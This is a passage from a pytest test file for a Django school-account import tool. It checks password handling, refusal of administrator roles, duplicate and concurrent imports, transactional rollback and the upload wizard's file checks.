        csv_bytes([line("anna", wachtwoord=weak, e_mailadres="")]),
        "f.csv",
        school=school_a,
        actions=ADD,
    )
    assert codes(report, 2) == {"weak_password"}
    assert not Account.objects.filter(username="anna").exists()


@pytest.mark.parametrize(
    "secret", ["  spaties rondom  ", " één spatie ervoor", "x" * 100, "Zeer lang " * 12 + "einde"]
)
def test_26_a_password_is_stored_exactly_never_stripped_or_truncated(school_a, secret):
    report, _ = run_import(
        csv_bytes([line("anna", wachtwoord=secret, e_mailadres="")]),
        "f.csv",
        school=school_a,
        actions=ADD,
    )
    assert report["counts"]["add"] == 1, report["problems"]
    anna = Account.objects.get(username="anna")
    assert anna.check_password(secret)
    assert not anna.check_password(secret.strip()) or secret == secret.strip()
    assert not anna.check_password(secret[:-1])


def test_27_an_email_is_trimmed_and_its_domain_lower_cased(school_a):
    report, _ = run_import(
        csv_bytes([line("anna", e_mailadres=" Anna@EXAMPLE.nl ")]),
        "f.csv",
        school=school_a,
        actions=ADD,
    )
    assert report["problems"] == []
    assert Account.objects.get(username="anna").email == "Anna@example.nl"


@pytest.mark.parametrize("role", ["beheerder", "admin", "superuser", "Beheerder", "ADMIN"])
def test_28_no_file_creates_or_makes_an_administrator(school_a, sara, role):
    rows = [line("nieuw", rol=role), line("sara", voornaam="Sara", rol=role)]
    report, _ = run_import(
        csv_bytes(rows), "f.csv", school=school_a, actions=Actions(add=True, update=True)
    )
    assert codes(report, 2) == codes(report, 3) == {"unknown_role"}
    assert not Account.objects.filter(role=Role.ADMIN).exists()
    assert Account.objects.get(pk=sara.pk).role == Role.STUDENT


# --- Circumstances -----------------------------------------------------------------------


def test_29_the_same_file_twice_imports_once(school_a, tmp_path):
    path = write(tmp_path, csv_bytes([line(f"ll{i}") for i in range(5)]))
    first = klasse_import(path, "--add", "--update")
    second = klasse_import(path, "--add", "--update")
    assert first[1]["counts"]["add"] == 5
    assert second[1]["counts"]["add"] == 0 and second[1]["counts"]["unchanged"] == 5
    assert Account.objects.count() == 5


def test_29_one_live_run_per_school_and_file(school_a):
    digest = hashlib.sha256(b"one file").hexdigest()
    live = {"school": school_a, "file_name": "f.csv", "file_sha256": digest}
    ImportRun.objects.create(**live, status="queued")
    with pytest.raises(IntegrityError), transaction.atomic():
        ImportRun.objects.create(**live, status="running")
    # Once done, the same file may be imported again later (and changes nothing then).
    ImportRun.objects.filter(file_sha256=digest).update(status="done")
    ImportRun.objects.create(**live, status="queued")


@contextmanager
def database_refuses(username: str):
    """A trigger that makes the database itself refuse the row writing `username`, however
    the import writes it (INSERT or COPY)."""
    message = f"the database refused {username}"
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(
                "CREATE FUNCTION klasse_test_refuse() RETURNS trigger AS $$ BEGIN "
                f"IF NEW.username = '{username}' THEN RAISE EXCEPTION '{message}'; END IF; "
                "RETURN NEW; END $$ LANGUAGE plpgsql"
            )
            cursor.execute(
                "CREATE TRIGGER klasse_test_refuse BEFORE INSERT ON accounts_account "
                "FOR EACH ROW EXECUTE FUNCTION klasse_test_refuse()"
            )
        else:
            cursor.execute(
                "CREATE TRIGGER klasse_test_refuse BEFORE INSERT ON accounts_account "
                f"WHEN NEW.username = '{username}' BEGIN SELECT RAISE(ABORT, '{message}'); END"
            )
    yield message


def test_30_an_error_at_row_9999_of_10000_keeps_nothing_and_sends_no_mail(
    school_a, sara, django_capture_on_commit_callbacks
):
    rows = [line(f"ll{i}", e_mailadres=f"ll{i}@example.nl") for i in range(1, 10_001)]
    data = csv_bytes(rows)
    before = school_state(school_a)
    record = import_run_record_cli(school=school_a, file_name="f.csv", data=data, actions=["add"])
    with (
        django_capture_on_commit_callbacks(execute=True) as callbacks,
        database_refuses("ll9999") as refusal,
        pytest.raises(Exception, match=refusal),
    ):
        run_import(data, "f.csv", school=school_a, actions=ALL, record=record)
    assert school_state(school_a) == before
    assert not ImportRun.objects.exists()
    assert callbacks == [] and mail.outbox == []


def test_31_accounts_changed_between_preview_and_import_are_planned_again(
    school_a, class_a, monkeypatch
):
    real_prepare = pipeline.prepare_import
    calls = []

    def prepare_then_someone_else_adds_ll1(*args, **kwargs):
        prepared = real_prepare(*args, **kwargs)
        if not calls:
            make_account(school_a, "ll1", first_name="Eerder", school_class=class_a)
        calls.append(prepared.plan.counts)
        return prepared

    rows = [line("ll1", voornaam="Anna"), line("ll2")]
    monkeypatch.setattr(pipeline, "prepare_import", prepare_then_someone_else_adds_ll1)
    report, _ = run_import(
        csv_bytes(rows), "f.csv", school=school_a, actions=Actions(add=True, update=True)
    )
    assert [c["add"] for c in calls] == [2, 1]  # the stale plan was made again
    assert (report["counts"]["add"], report["counts"]["update"]) == (1, 1)
    assert Account.objects.filter(username__iexact="ll1").count() == 1
    assert Account.objects.get(username="ll1").first_name == "Anna"


def test_31_a_plan_that_stays_stale_is_never_applied(school_a, monkeypatch):
    real_prepare = pipeline.prepare_import
    changes = iter(range(100))

    def prepare_then_change(*args, **kwargs):
        prepared = real_prepare(*args, **kwargs)
        make_account(school_a, f"tussendoor{next(changes)}")
        return prepared

    monkeypatch.setattr(pipeline, "prepare_import", prepare_then_change)
    with pytest.raises(StalePlan):
        run_import(csv_bytes([line("anna")]), "f.csv", school=school_a, actions=ADD)
    assert not Account.objects.filter(username="anna").exists()


def test_31_a_username_taken_elsewhere_between_preview_and_import_is_planned_again(
    school_a, school_b, monkeypatch
):
    real_prepare = pipeline.prepare_import
    calls = []

    def prepare_then_school_b_takes_ll1(*args, **kwargs):
        prepared = real_prepare(*args, **kwargs)
        if not calls:
            make_account(school_b, "ll1")
        calls.append(prepared)
        return prepared

    monkeypatch.setattr(pipeline, "prepare_import", prepare_then_school_b_takes_ll1)
    report, _ = run_import(
        csv_bytes([line("ll1"), line("ll2")]), "f.csv", school=school_a, actions=ADD
    )
    assert codes(report, 2) == {"username_taken"}
    assert Account.objects.filter(school=school_a).count() == 1


def test_32_one_classs_file_with_archive_is_stopped_until_confirmed(school_a, tmp_path):
    whole = write(tmp_path, csv_bytes([line(f"ll{i}") for i in range(30)]), "school.csv")
    assert klasse_import(whole, "--add")[0] == 0
    one_class = write(tmp_path, csv_bytes([line(f"ll{i}") for i in range(5)]), "klas.csv")
    before = school_state(school_a)
    for options in (["--archive"], ["--archive", "--update", "--dry-run"]):
        code, output = klasse_import(one_class, *options)
        assert code == 1 and output["error"]["code"] == "mass_archive_needs_confirmation"
        assert school_state(school_a) == before
    code, report = klasse_import(one_class, "--archive", "--confirm-mass-archive")
    assert code == 0 and report["counts"]["archive"] == 25


def test_33_last_years_file_again_changes_nothing_and_keeps_chosen_passwords(school_a, tom):
    rows = [line(f"ll{i}", wachtwoord=f"startwachtwoord-{i}") for i in range(5)]
    rows.append(line("docent2", rol="docent", klas="3HB,4HB", opleiding=""))
    data = csv_bytes(rows)
    run_import(data, "vorig-jaar.csv", school=school_a, actions=ADD)
    chosen = Account.objects.get(username="ll0")
    chosen.set_password("zelf-gekozen-wachtwoord")
    chosen.save()
    before = school_state(school_a)
    stamps = dict(Account.objects.values_list("username", "updated_at"))
    sent = len(mail.outbox)
    report, _ = run_import(data, "vorig-jaar.csv", school=school_a, actions=ALL)
    assert report["counts"]["unchanged"] == 6
    assert report["counts"]["add"] == report["counts"]["update"] == report["counts"]["archive"] == 0
    assert school_state(school_a) == before
    assert dict(Account.objects.values_list("username", "updated_at")) == stamps
    assert Account.objects.get(username="ll0").check_password("zelf-gekozen-wachtwoord")
    assert len(mail.outbox) == sent
    assert Account.objects.get(username="tom").check_password(PASSWORD)


# --- the same cases through the wizard's pages -------------------------------------------
# The wizard's own tests (tests/imports/test_wizard_steps.py, test_wizard_import.py) cover
# the size limit before reading (15), a PDF refused (13), a second click (29) and a plan
# changed since the preview (31); these add what they do not.


@pytest.fixture
def wizard(settings, tmp_path, alice):
    helpers = pytest.importorskip("tests.imports.wizard_helpers")
    return helpers, client_for(alice), helpers.stored_files


def test_13_through_the_wizard_an_xlsx_named_csv_is_read_and_a_png_is_refused(wizard):
    helpers, admin, uploads = wizard
    run = helpers.uploaded(admin, xlsx_bytes([line("anna")]), "leerlingen.csv")
    assert run.file_info["format"] == "xlsx"
    response = helpers.upload(admin, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "foto.csv")
    assert response.status_code == 200 and "geen spreadsheet" in response.content.decode()
    assert ImportRun.objects.count() == 1 and len(uploads()) == 1


def test_15_through_the_wizard_a_file_over_the_row_limit_is_refused_and_not_kept(wizard, settings):
    helpers, admin, uploads = wizard
    settings.KLASSE_MAX_ROWS = 3
    response = helpers.upload(admin, csv_bytes([line(f"ll{i}") for i in range(4)]))
    assert response.status_code == 200 and "meer dan 3 rijen" in response.content.decode()
    assert not ImportRun.objects.exists() and uploads() == []


def test_29_through_the_wizard_the_same_file_in_two_tabs_imports_once(wizard, settings):
    helpers, admin, _ = wizard
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    execution = pytest.importorskip("klasse.imports.execution")
    data = csv_bytes([line(f"ll{i}") for i in range(3)])
    first, second = (helpers.mapped(admin, data, "leerlingen.csv") for _tab in range(2))
    seen = admin.get(reverse("imports:preview", args=[second.pk])).context["form"].initial
    assert helpers.importeer(admin, first)["Location"] == reverse(
        "imports:progress", args=[first.pk]
    )
    busy = helpers.importeer(admin, second, fingerprint=seen["fingerprint"])  # first queued
    assert busy["Location"] == reverse("imports:progress", args=[first.pk])
    assert "wordt al geïmporteerd" in admin.get(busy["Location"]).content.decode()
    assert execution.run_execute(run_id=str(first.pk)) == "done"
    again = helpers.importeer(admin, second, fingerprint=seen["fingerprint"])  # now stale
    assert again["Location"] == reverse("imports:preview", args=[second.pk])
    assert Account.objects.filter(username__startswith="ll").count() == 3
    assert ImportRun.objects.get(pk=second.pk).status == "planned"
